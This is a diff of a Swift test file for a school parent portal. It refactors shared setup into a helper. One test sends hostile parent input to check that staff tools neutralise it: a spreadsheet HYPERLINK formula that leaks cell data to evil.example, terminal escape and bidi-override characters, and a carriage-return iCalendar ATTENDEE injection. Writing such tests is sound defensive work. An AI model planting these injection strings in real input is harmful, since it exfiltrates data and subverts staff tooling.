@@ -12,7 +12,18 @@ import FoundationNetworking
 #endif
 
 final class InboxCommandTests: XCTestCase {
-    func testAbsenceAndBookingRoundTripThroughTheReceiver() async throws {
+    /// A school with a conference open for booking, one groep-5 token, a real receiver with the
+    /// trust file, and that parent's client: keys from the keyslot, as the app takes them.
+    struct School {
+        let workspace: Workspace
+        let receiver: ReceiverProcess
+        let parent: ReceiverClient
+        let tokenID: String
+        let inbox: [UInt8]
+        var api: String { receiver.base + "/api" }
+    }
+
+    func school() async throws -> School {
         let workspace = try Workspace()
         // A schedule whose booking window is open now, with an evening far enough ahead.
         try workspace.write("content/groups/groep-5/conferences/test-gesprekken.md", """
@@ -32,23 +43,26 @@ final class InboxCommandTests: XCTestCase {
         let token = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(issued.stdout.utf8)) as? [String: String])?["token"])
         let generated = try portal(["generate"], in: workspace.root)
         XCTAssertEqual(generated.status, 0, generated.stderr)
-
         let receiver = try ReceiverProcess(workspace: workspace)
-        defer { receiver.stop() }
-        let base = receiver.base
         try await receiver.waitUntilHealthy()
-
-        // The parent's side, as the app does it: keys from the keyslot, payloads sealed to the inbox.
         let opener = try SealedSiteOpener(output: workspace.url("output"), token: token)
         let seed = Array(try XCTUnwrap(Data(base64Encoded: opener.keyslot.signingSeed)))
-        let inbox = Array(try XCTUnwrap(Data(base64Encoded: opener.site.inboxPublicKey)))
-        let parent = ReceiverClient(receiverURL: URL(string: base + "/api")!, signer: RequestSigner(tokenID: opener.tokenID, seed: seed))
+        let inbox = Array(try XCTUnwrap(Data(base64Encoded: try XCTUnwrap(opener.keyslot.inbox.first { $0.audience == "groep-5" }).publicKey)))
+        let parent = ReceiverClient(receiverURL: URL(string: receiver.base + "/api")!, signer: RequestSigner(tokenID: opener.tokenID, seed: seed))
+        return School(workspace: workspace, receiver: receiver, parent: parent, tokenID: opener.tokenID, inbox: inbox)
+    }
+
+    func testAbsenceAndBookingRoundTripThroughTheReceiver() async throws {
+        let school = try await school()
+        let (workspace, receiver, parent, inbox) = (school.workspace, school.receiver, school.parent, school.inbox)
+        defer { receiver.stop() }
+        let base = receiver.base
         let absence = try AbsencePayload(child: "Sam Testkind", reason: .ziek, note: "Koorts sinds vannacht")
-            .seal(tokenID: opener.tokenID, inboxPublicKey: inbox)
+            .seal(tokenID: school.tokenID, inboxPublicKey: inbox)
         _ = try await parent.send("POST", "/v1/absences", body: try json([
             "group": "groep-5", "from": "2026-12-01", "to": "2026-12-02", "sealed": absence.jsonObject,
         ]))
-        let booking = try BookingPayload(child: "Sam Testkind").seal(tokenID: opener.tokenID, inboxPublicKey: inbox)
+        let booking = try BookingPayload(child: "Sam Testkind").seal(tokenID: school.tokenID, inboxPublicKey: inbox)
         _ = try await parent.send("POST", "/v1/bookings", body: try json([
             "schedule": "groups/groep-5/conferences/test-gesprekken", "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
         ]))
@@ -91,38 +105,17 @@ final class InboxCommandTests: XCTestCase {
     /// spreadsheet formula stays text in `--csv`, terminal escapes do not reach the terminal, and a
     /// bare CR cannot start a new iCalendar property.
     func testWhatParentsTypedCannotDriveTheStaffTools() async throws {
-        let workspace = try Workspace()
-        try workspace.write("content/groups/groep-5/conferences/test-gesprekken.md", """
-            ---
-            title: Testgesprekken
-            slot_minutes: 15
-            evenings:
-              - date: 2031-02-04
-                start: "18:00"
-                end: "19:00"
-            booking:
-              opens: 2026-01-05 19:00
-              closes: 2031-02-01 12:00
-            ---
-            """)
-        let issued = try portal(["token", "issue", "--group", "groep-5", "--json"], in: workspace.root)
-        let token = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(issued.stdout.utf8)) as? [String: String])?["token"])
-        XCTAssertEqual(try portal(["generate"], in: workspace.root).status, 0)
-        let receiver = try ReceiverProcess(workspace: workspace)
+        let school = try await school()
+        let (workspace, receiver, parent, inbox) = (school.workspace, school.receiver, school.parent, school.inbox)
         defer { receiver.stop() }
-        try await receiver.waitUntilHealthy()
-        let opener = try SealedSiteOpener(output: workspace.url("output"), token: token)
-        let seed = Array(try XCTUnwrap(Data(base64Encoded: opener.keyslot.signingSeed)))
-        let inbox = Array(try XCTUnwrap(Data(base64Encoded: opener.site.inboxPublicKey)))
-        let parent = ReceiverClient(receiverURL: URL(string: receiver.base + "/api")!, signer: RequestSigner(tokenID: opener.tokenID, seed: seed))
         let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")"
         let absence = try AbsencePayload(child: formula, reason: .ziek, note: "Rood\u{1B}[31m\u{1B}]0;titel\u{07}\u{202E}tekst")
-            .seal(tokenID: opener.tokenID, inboxPublicKey: inbox)
+            .seal(tokenID: school.tokenID, inboxPublicKey: inbox)
         _ = try await parent.send("POST", "/v1/absences", body: try json([
             "group": "groep-5", "from": "2026-12-01", "to": "2026-12-01", "sealed": absence.jsonObject,
         ]))
         let booking = try BookingPayload(child: "Sam\rATTENDEE:mailto:evil@example.com", note: "a;b,c\\d\ne")
-            .seal(tokenID: opener.tokenID, inboxPublicKey: inbox)
+            .seal(tokenID: school.tokenID, inboxPublicKey: inbox)
         _ = try await parent.send("POST", "/v1/bookings", body: try json([
             "schedule": "groups/groep-5/conferences/test-gesprekken", "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
         ]))
